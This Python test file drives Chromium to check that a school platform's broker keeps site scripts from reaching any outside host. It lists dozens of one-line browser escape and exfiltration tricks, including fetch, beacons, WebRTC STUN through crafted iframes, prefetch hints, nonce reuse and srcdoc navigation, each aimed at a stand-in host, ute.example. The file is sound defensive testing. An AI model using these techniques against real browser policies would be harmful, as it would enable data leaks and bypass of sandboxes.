"""A site's own script, in a real Chromium: what it needs works, and no way out of it leads out.

Every name but the broker's resolves to one listening socket of the test, so that a packet that
leaves is a packet that is counted: TCP connections, and UDP for what WebRTC sends.
"""

# ruff: noqa: E501 - each trick is one line of script, and reads best as one
from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, sync_playwright
from playwright.sync_api import Page as Tab
from werkzeug.serving import make_server

from dask_platform.adapters.upstream import MemoryUpstream, Page
from dask_platform.features.broker.application import make_broker
from tests.browser.site import CHROMIUM, FLAGS, QuietHandler
from tests.features.broker.conftest import SITE, Outside
from tests.features.whitelists.build import rule
from tests.world import World

CDN = "https://cdn.no"
HELPER = {
    "host": "cdn.no",
    "types": ["text/javascript", "image/png", "font/woff2", "text/css", "application/json"],
}
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "60606000000005000157a8a5ad0000000049454e44ae426082"
)
HOME = f"""<!doctype html><html lang=nb><head><title>Regn</title>
<link rel=stylesheet href=/stil.css><link rel=stylesheet href="{CDN}/ark.css">
<script>window.early = document.cookie; var inline = 1;</script>
<script src="{CDN}/classic.js"></script>
<script type=module>
  import {{ answer }} from "{CDN}/lib/answer.js";
  window.module = answer;
  window.later = (await import("{CDN}/lib/answer.js")).answer;
</script></head>
<body onload="window.handler = 1"><h1 id=h>Regn ut</h1><p id=out></p>
<img id=pic src="{CDN}/bilde.png" alt="">
<form id=own><input name=q value=a><button id=send>Regn</button></form>
<a id=there href="/side">Side</a> <a id=unlisted href="https://ute.example/x">Ute</a>
<script>
  document.getElementById("own").addEventListener("submit", (event) => {{ window.sent = 1; }});
  fetch("/data.json").then((one) => one.json()).then((one) => {{ window.data = one.tall; }});
</script></body></html>"""
PAGES: dict[str, tuple[str, bytes]] = {
    f"{SITE}/": ("text/html; charset=utf-8", HOME.encode()),
    f"{SITE}/side": ("text/html", b"<!doctype html><title>Side</title><h1>Side</h1>"),
    f"{SITE}/data.json": ("application/json", b'{"tall": 42}'),
    f"{SITE}/arbeider.js": ("text/javascript", b"self.ran = 1"),
    f"{SITE}/stil.css": ("text/css", f"h1{{background:url({CDN}/bak.png)}}".encode()),
    f"{CDN}/ark.css": ("text/css", b"@font-face{font-family:f;src:url(f.woff2)} p{font-family:f}"),
    f"{CDN}/f.woff2": ("font/woff2", b"no font, but asked for"),
    f"{CDN}/bilde.png": ("image/png", PIXEL),
    f"{CDN}/bak.png": ("image/png", PIXEL),
    f"{CDN}/classic.js": ("text/javascript", b"window.classic = 7"),
    f"{CDN}/lib/answer.js": (
        "text/javascript", b'import { half } from "/lib/half.js"; export const answer = half * 2;',
    ),
    f"{CDN}/lib/half.js": ("text/javascript; charset=utf-8", b"export const half = 21;"),
}  # fmt: skip


class Outer:
    """The world outside: counts every connection and every datagram, and answers none."""

    def __init__(self) -> None:
        self.arrived: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for run in (self._accept, self._receive):
            threading.Thread(target=run, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _address = self.tcp.accept()
            except OSError:
                return
            # Counted as it comes: one that says nothing says as much.
            self.arrived.append("tcp")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                data = self.udp.recv(2000)
            except OSError:
                return
            if not data:
                return
            self.arrived.append(f"udp {data[:20]!r}")

    def close(self) -> None:
        for one in (self.tcp, self.udp):
            with suppress(OSError):  # one without a peer has nothing to shut
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.fixture(scope="module")
def outer() -> Iterator[Outer]:
    made = Outer()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser(outer: Outer) -> Iterator[Browser]:
    flags = [*FLAGS, "--host-resolver-rules=MAP *.example 127.0.0.1, MAP stun.example 127.0.0.1"]
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=str(CHROMIUM), args=flags)
        yield made
        made.close()


def until(tab: Tab, holds: str) -> None:
    """Wait for it from outside: a page that may not eval cannot be asked to wait itself."""
    for _ in range(100):
        if tab.evaluate(holds):
            return
        tab.wait_for_timeout(50)
    pytest.fail(f"never: {holds}")


@dataclass
class Place:
    outside: Outside
    browser: Browser
    outer: Outer
    here: str
    contexts: list[BrowserContext] = field(default_factory=list)

    def context(self) -> BrowserContext:
        made = self.browser.new_context()
        made.set_default_timeout(15_000)
        self.contexts.append(made)
        return made

    def open(self, who: str = "anna", context: BrowserContext | None = None) -> Tab:
        tab = (context or self.context()).new_page()
        tab.goto(self.outside.ticket(who))
        until(tab, "window.data && window.module && window.later")
        return tab

    @property
    def ute(self) -> str:
        return f"http://ute.example:{self.outer.port}"


@pytest.fixture
def place(world: World, browser: Browser, outer: Outer) -> Iterator[Place]:
    served: dict[str, Any] = {}
    server = make_server(
        "127.0.0.1", 0, lambda *given: served["app"](*given), threaded=True,
        request_handler=QuietHandler,
    )  # fmt: skip
    platform = world.platform
    platform.settings = platform.settings.model_copy(
        update={"resources_url": f"http://ressurs.localhost:{server.port}"}
    )
    platform.upstream = MemoryUpstream(
        {url: Page(body, headers={"content-type": kind}) for url, (kind, body) in PAGES.items()}
    )
    served["app"] = made_broker = make_broker(platform)
    # A hundred tricks in a minute are more than a student may try.
    limits = made_broker.extensions["dask_broker_limits"]
    limits.allowance = replace(limits.allowance, burst=1e6, per_second=1e6)
    outside = Outside(world, served["app"], platform.upstream)
    outside.open(rule(profile="scripted", helpers=[HELPER]))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    outer.arrived.clear()
    made = Place(outside, browser, outer, f"http://leksikon-no.ressurs.localhost:{server.port}")
    try:
        yield made
    finally:
        for context in made.contexts:
            context.close()
        server.shutdown()
        thread.join()
        server.server_close()


def test_what_the_page_needs_works(place: Place) -> None:
    tab = place.open()
    assert tab.evaluate("[inline, early, classic, module, later, data]") == [1, "", 7, 42, 42, 42]
    assert tab.evaluate("window.handler") is None, "handlers in attributes do not run"
    until(tab, "document.getElementById('pic').naturalWidth === 1")
    tab.evaluate("document.fonts.load('1rem f').catch(() => 0)")
    asked = {one.url for one in place.outside.upstream.requests}
    assert {f"{CDN}/f.woff2", f"{CDN}/bak.png", f"{CDN}/lib/half.js"} <= asked
    tab.locator("#send").click()
    assert tab.evaluate("window.sent") == 1
    assert tab.url == f"{place.here}/"
    tab.locator("#there").click()
    tab.wait_for_url(f"{place.here}/side")
    assert not place.outer.arrived


def test_the_trap_catches(place: Place, browser: Browser) -> None:
    """Without our policy each of these arrives, so that nothing arriving says something."""
    page = [BARE.encode()]
    server = make_server(
        "127.0.0.1", 0, lambda _environ, start: (start("200 OK", HTML), page)[1],
        threaded=True, request_handler=QuietHandler,
    )  # fmt: skip
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for name in (
            "fetch",
            "import",
            "image",
            "socket",
            "prefetch",
            "peer",
            "iframe",
        ):
            tab = place.context().new_page()
            tab.goto(f"http://bar.localhost:{server.port}/")
            place.outer.arrived.clear()
            came = tab.evaluate(TRY, [place.ute, TRICKS[name]])
            tab.wait_for_timeout(500)
            assert place.outer.arrived, f"{name} never arrives here: {came}"
    finally:
        server.shutdown()
        server.server_close()


HTML = [("Content-Type", "text/html")]
BARE = "<!doctype html><head><script nonce=x></script></head><body></body>"
TRICKS: dict[str, str] = {
    "fetch": "await fetch(ute)",
    "fetch no-cors": "await fetch(ute, {mode: 'no-cors', keepalive: true})",
    "fetch the school": "await fetch('http://localhost:8000/')",
    "fetch a site beside": "await fetch('/_dask/via/ute-example/x').then((r) => {if (!r.ok) throw 1})",
    "fetch go": "await fetch('/_dask/go?to=https%3A%2F%2Fleksikon.no%2Fside').then((r) => {if (!r.ok) throw 1})",
    "xhr": "await new Promise((y, n) => {const x = new XMLHttpRequest(); x.open('GET', ute); x.onload = y; x.onerror = n; x.send()})",
    "post": "await fetch('/', {method: 'POST', body: 'hei'}).then((r) => {if (!r.ok) throw 1})",
    "beacon": "if (!navigator.sendBeacon(ute, 'hei')) throw 1; await wait(300); throw 1",
    "socket": "await new Promise((y, n) => {const s = new WebSocket(ute.replace('http', 'ws')); s.onopen = y; s.onerror = n})",
    "socket here": "await new Promise((y, n) => {const s = new WebSocket(location.origin.replace('http', 'ws')); s.onopen = y; s.onerror = n})",
    "events": "await new Promise((y, n) => {const s = new EventSource(ute); s.onopen = y; s.onerror = n})",
    "events here": "await new Promise((y, n) => {const s = new EventSource('/data.json'); s.onopen = y; s.onerror = n})",
    "image": "await load(Object.assign(new Image(), {src: ute + '/i.png'}))",
    "script": "await load(Object.assign(document.createElement('script'), {src: ute + '/s.js'}))",
    "script of another site": "await load(Object.assign(document.createElement('script'), {src: '/_dask/via/annet-no/x.js'}))",
    "script with the page's word": "const s = document.createElement('script'); s.nonce = document.querySelector('script[nonce]').nonce; s.src = ute + '/s.js'; await load(s)",
    "script with a known hash": "const s = document.createElement('script'); s.integrity = 'sha256-x'; s.crossOrigin = ''; s.src = ute + '/s.js'; await load(s)",
    "import": "await import(ute + '/m.js')",
    "style": "await load(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: ute + '/s.css'}))",
    "css": "document.body.style.background = `url(${ute}/b.png)`; await wait(300); throw 1",
    "font": "await new FontFace('x', `url(${ute}/f.woff2)`).load()",
    "video": "await load(Object.assign(document.createElement('video'), {src: ute + '/v.mp4', preload: 'auto'}))",
    "object": "await load(Object.assign(document.createElement('object'), {data: ute + '/o'})); throw 1",
    "iframe": "const f = document.createElement('iframe'); f.src = ute + '/f'; document.body.append(f); await wait(400); f.contentDocument.x; throw 1",
    "iframe of our own": "const f = document.createElement('iframe'); f.src = '/side'; document.body.append(f); await wait(400); if (!f.contentDocument || !f.contentDocument.querySelector('h1')) throw 1",
    "worker": "await new Promise((y, n) => {const w = new Worker('/arbeider.js'); w.onmessage = y; w.onerror = n})",
    "worker from a blob": "await new Promise((y, n) => {const w = new Worker(URL.createObjectURL(new Blob([`fetch('${ute}')`]))); w.onmessage = y; w.onerror = n})",
    "shared worker": "await new Promise((y, n) => {const w = new SharedWorker('/arbeider.js'); w.onerror = n})",
    "service worker": "await navigator.serviceWorker.register('/arbeider.js')",
    "eval": "eval('1')",
    "handler": "document.body.setAttribute('onclick', 'window.handled = 1'); document.body.click(); if (!window.handled) throw 1",
    "script url": "location = 'javascript:window.handled = 2'; await wait(200); if (!window.handled) throw 1",
    "open": "if (!window.open(ute)) throw 1",
    "alert": "alert(1); throw 1",
    "peer": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(800); throw 1",
    "peer from a frame": "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame of another document": "const f = document.implementation.createHTMLDocument().createElement('IFRAME'); document.body.append(f); const w = f.contentWindow; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame by its namespace": "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); document.body.append(f); const w = f.contentWindow; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame in text": "document.body.insertAdjacentHTML('beforeend', '<iFrame></iFrame><iframe/>'); const w = window[0]; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame in a template": "const t = document.createElement('template'); t.innerHTML = '<iframe\\n></iframe>'; document.body.append(t.content); const w = window[0]; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame that is parsed": "const d = new DOMParser().parseFromString('<iframe></iframe>', 'text/html'); document.body.append(d.querySelector('iframe')); const w = window[0]; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "peer from a frame in xml": "const d = new DOMParser().parseFromString(`<x:iframe xmlns:x='http://www.w3.org/1999/xhtml'/>`, 'text/xml'); document.body.append(d.documentElement); const w = window[0]; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "a policy of one's own": "const p = window.trustedTypes.createPolicy('x', {createHTML: (s) => s}); const w = window; const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + ute.split(':')[2]}]}); p.createDataChannel('x'); await p.setLocalDescription(); await wait(1200); throw 1",
    "transport": "await new WebTransport(ute.replace('http', 'https')).ready",
    "dns-prefetch": "hint('dns-prefetch'); await wait(300); throw 1",
    "prefetch": "hint('prefetch'); await wait(500); throw 1",
    "prerender": "hint('prerender'); await wait(300); throw 1",
    "preload": "hint('preload', 'image'); await wait(300); throw 1",
    "modulepreload": "hint('modulepreload'); await wait(300); throw 1",
    "manifest": "hint('manifest'); await wait(300); throw 1",
    "icon": "hint('icon'); await wait(300); throw 1",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.nonce = document.querySelector('script[nonce]').nonce; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [ute + '/p'], eagerness: 'immediate'}], prerender: [{source: 'list', urls: [ute + '/q'], eagerness: 'immediate'}]}); document.head.append(s); await wait(800); throw 1",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = ute; document.body.append(a); a.click(); await wait(300); throw 1",
    "report": "new ReportingObserver(() => 0).observe(); throw 1",
    "cookie": "document.cookie = 'a=b'; if ((await fetch('/side', {credentials: 'include'})) && !document.cookie.includes('dask')) throw 1",
    "base": "const b = document.createElement('base'); b.href = ute; document.head.prepend(b); await fetch('rel').then((r) => {if (!r.url.startsWith(ute)) throw 1})",
    "payment": "await new PaymentRequest([{supportedMethods: ute + '/pay'}], {total: {label: 'x', amount: {currency: 'NOK', value: '1'}}}).show()",
    "fenced": "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(ute); document.body.append(f); await wait(300); throw 1",
    "svg": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${ute}/a.png'/><use href='${ute}/b.svg#a'/></svg>`); await wait(300); throw 1",
    "download": "const a = document.createElement('a'); a.href = '/data.json'; a.download = 'x'; document.body.append(a); a.click(); await wait(300); throw 1",
}  # fmt: skip
TRY = """async ([ute, body]) => {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const load = (node) => new Promise((yes, no) => {
    node.onload = node.onloadeddata = yes; node.onerror = no; document.body.append(node);
    setTimeout(no, 1500);
  });
  const hint = (rel, as) => {
    const link = document.createElement("link"); link.rel = rel; link.href = ute.replace("ute.example", "127.0.0.1") + "/hint";
    if (as) link.as = as;
    document.head.append(link);
  };
  window.tools = {ute, wait, load, hint};
  window.came = "";
  const script = document.createElement("script");
  script.nonce = document.querySelector("script[nonce]").nonce;
  // Only later: what is run straight away counts as the test's own, which may eval.
  script.textContent = `(async ({ute, wait, load, hint}) => {await wait(1); ${body}})(window.tools)
    .then(() => { window.came = "through"; }, (why) => { window.came = "shut: " + why; })`;
  document.head.append(script);
  for (let i = 0; i < 60 && !window.came; i++) await wait(50);
  return window.came || "silence";
}"""


def test_no_trick_of_script_leads_anywhere(place: Place) -> None:
    tab = place.open()
    for trick, body in TRICKS.items():
        came = tab.evaluate(TRY, [place.ute, body])
        assert came.startswith("shut") or came == "silence", f"{trick}: {came}"
        tab.wait_for_timeout(100)
        assert not place.outer.arrived, f"{trick} left the house"
        assert tab.url.partition("#")[0] == f"{place.here}/", trick
        assert len(tab.context.pages) == 1, trick
        assert tab.context.service_workers == [], trick


LEAVING: dict[str, str] = {
    "location": "location = ute",
    "location of the top": "top.location.replace(ute)",
    "assign": "location.assign(ute + '/a')",
    "link": "const a = document.createElement('a'); a.href = ute; document.body.append(a); a.click()",
    "link to a new tab": "const a = document.createElement('a'); a.href = ute; a.target = '_blank'; document.body.append(a); a.click()",
    "form": "const f = document.createElement('form'); f.action = ute; document.body.append(f); f.submit()",
    "post": "const f = document.createElement('form'); f.action = ute; f.method = 'post'; document.body.append(f); f.submit()",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + ute; document.head.append(m)",
    "frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.parent.location = ute",
    "srcdoc": "const f = document.createElement('iframe'); const n = document.querySelector('script[nonce]').nonce; f.srcdoc = `<script nonce='${n}'>top.location = '${ute}'</scr` + 'ipt>'; document.body.append(f)",
    "sandboxed srcdoc": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-top-navigation'; const n = document.querySelector('script[nonce]').nonce; f.srcdoc = `<script nonce='${n}'>top.location = '${ute}'</scr` + 'ipt>'; document.body.append(f)",
    "frame itself": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = ute",
    "navigation": "navigation.navigate(ute)",
    "blob": "location = URL.createObjectURL(new Blob([`<script>location='${ute}'</scr` + 'ipt>'], {type: 'text/html'}))",
    "data": "location = `data:text/html,<script>location='${ute}'</scr` + 'ipt>'",
    "written anew": "document.open(); document.write('<p>x'); document.close(); location = ute",
    "listeners taken away": "navigation.onnavigate = null; navigation.addEventListener = null; Event.prototype.preventDefault = () => 0; location = ute",
    "app": "location = 'mailto:noen@ute.example'",
    "svg link": "document.body.insertAdjacentHTML('beforeend', `<svg><a id=sv href='${ute}'><text>x</text></a></svg>`); document.getElementById('sv').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))",
    "history": "history.pushState(0, '', '/annet'); location = ute",
}  # fmt: skip


def test_script_takes_nobody_out(place: Place) -> None:
    context = place.context()
    for way, body in LEAVING.items():
        tab = place.open(context=context)
        try:
            tab.evaluate(TRY, [place.ute, body])
        except Error as left:
            # The page is gone: to our own door, which says no.
            assert "navigation" in str(left) or "destroyed" in str(left), way
        tab.wait_for_timeout(300)
        assert not place.outer.arrived, f"{way} left the house"
        for page in context.pages:
            assert page.url.startswith((place.here, "about:blank")), f"{way}: {page.url}"
        tab.close()


@pytest.mark.parametrize(("prediction", "arrives"), [(0, True), (2, False)])
def test_connecting_ahead_is_shut_by_the_setting_of_the_pc(
    place: Place, tmp_path: Path, prediction: int, arrives: bool
) -> None:
    """No policy of a page holds ``preconnect``; the managed NetworkPredictionOptions does."""
    preferences = tmp_path / "Default" / "Preferences"
    preferences.parent.mkdir()
    preferences.write_text(json.dumps({"net": {"network_prediction_options": prediction}}))
    context = place.browser.browser_type.launch_persistent_context(
        tmp_path, executable_path=str(CHROMIUM), args=FLAGS
    )
    try:
        tab = place.open(context=context)
        tab.evaluate(TRY, [place.ute, "hint('preconnect'); await wait(600)"])
        assert bool(place.outer.arrived) is arrives
    finally:
        context.close()


KEEP = """async () => {
  localStorage.note = sessionStorage.note = "hei"; document.cookie = "note=hei; path=/";
  window.name = "hei"; history.replaceState("hei", "");
  await new Promise((done, no) => { const r = indexedDB.open("note"); r.onsuccess = done; r.onerror = no; });
  await (await caches.open("note")).put("/note", new Response("hei"));
  return [localStorage.note, (await indexedDB.databases()).length, (await caches.keys()).length];
}"""
FIND = """async () => [localStorage.note, sessionStorage.note, document.cookie, window.name,
  (await indexedDB.databases()).length, (await caches.keys()).length]"""


def test_what_one_student_leaves_on_the_pc_the_next_does_not_find(place: Place) -> None:
    context = place.context()
    tab = place.open("anna", context)
    assert tab.evaluate(KEEP) == ["hei", 1, 1]
    tab.reload()
    until(tab, "window.data")
    assert tab.evaluate("[localStorage.note, sessionStorage.note]") == ["hei", "hei"]
    tab.goto(place.outside.ticket("bo"))
    until(tab, "window.data")
    assert tab.evaluate(FIND) == [None, None, "", "", 0, 0]


def test_the_bar_outlives_a_page_that_empties_itself(place: Place) -> None:
    tab = place.open()
    tab.evaluate("document.body.innerHTML = ''; document.body.className = 'x'")
    until(tab, "document.querySelector('dask-bar')?.parentNode === document.documentElement")
    tab.evaluate("document.querySelector('dask-bar').remove()")
    until(tab, "document.querySelector('dask-bar')?.matches(':popover-open')")
    assert tab.evaluate("document.querySelector('dask-bar').shadowRoot") is None
    box = tab.locator("dask-bar").bounding_box()
    assert box is not None
    assert box["height"] > 40


def test_a_link_that_script_makes_is_refused_with_the_reason(place: Place) -> None:
    tab = place.open()
    with suppress(Error):  # the page may be gone before it can answer
        tab.evaluate(TRY, [place.ute, "location = 'https://ute.example/lese'"])
    tab.wait_for_url("**/_dask/go?to=*")
    assert "https://ute.example/lese" in tab.content()
    assert not place.outer.arrived
